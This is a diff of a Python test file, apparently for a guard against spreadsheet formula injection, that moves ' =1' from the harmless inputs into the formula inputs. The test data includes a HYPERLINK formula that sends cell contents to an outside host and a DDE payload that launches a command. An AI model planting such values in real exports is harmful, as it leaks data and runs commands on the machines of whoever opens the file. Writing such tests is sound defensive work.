@@ -745,7 +745,7 @@ def test_a_failure_leaves_an_earlier_data_set_as_it_was(job, monkeypatch):
 FORMULAS = [
     '=HYPERLINK("http://example.org/?"&A1,"open")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\uff1d1+1",
     "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "==1", "=cmd|' /C calc'!A0", "-2", "ops;=1+1", "ops\t=1", "ops\r=1",
-    "ops\r\n@1", "ops|+1",
+    "ops\r\n@1", "ops|+1", " =1",
 ]  # fmt: skip
 HARMLESS = [
     "ops",
@@ -757,7 +757,6 @@ HARMLESS = [
     "<script>",
     "{{7*7}}",
     "\u202eops",
-    " =1",
     "",
     "ops; -1",
 ]
